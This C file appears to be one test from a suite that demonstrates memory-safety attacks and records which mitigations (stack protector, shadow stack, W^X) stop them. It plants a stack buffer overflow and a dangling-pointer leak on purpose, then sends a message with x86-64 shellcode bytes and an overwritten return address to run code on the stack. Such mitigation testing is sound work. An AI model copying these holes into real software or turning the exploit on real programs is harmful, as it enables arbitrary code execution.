/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * Code on the stack: the message that overflows a buffer is code, and the return address leads to it. Where the buffer
 * is was leaked by a request before.
 */
#include "attacks.h"

static struct attack_frame frame;
static struct attack_leaky last; /* pointer: where the last message was, long over */

/* The mistakes: len is the sender's, and last is left to point to what is gone. */
static NOINLINE unsigned first_byte(const void *message, size_t len)
{
	uint8_t copy[64] = { 0 };
	uint8_t *bytes = attack_opaque(&copy[0]);

	attack_frame_note(&frame, copy);
	last.pointer = bytes;
	memcpy(bytes, message, len);
	return bytes[0];
}

/* So that a request is always served at the same depth. */
static NOINLINE unsigned serve(const void *message, size_t len)
{
	return first_byte(message, len) + 1;
}

static bool benign(const struct attack *attack)
{
	return serve("a", 1) == 'b';
}

static void run(const struct attack *attack)
{
	uint8_t message[256] = { 0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xe0 }; /* movabs $goal, %rax; jmp *%rax */
	uint64_t goal = attack_linked_code(attack_goal) + attack_leaked_slide(), code;

	benign(attack);
	code = attack_leaky_read(&last, ATTACK_LEAK);
	memcpy(message + 2, &goal, sizeof(goal));
	memcpy(message + frame.to_return, &code, sizeof(code));
	attack_primitive(attack);
	serve(message, (size_t)frame.to_return + sizeof(code));
}

ATTACK(exec_stack, .family = "executing data", .primitive = LINEAR_OVERFLOW, .knowledge = LAYOUT_LEAKED,
       .stopped_by = "stackprotector shadowstack wx", .about = "the overflowing message is code", .run = run,
       .benign = benign);
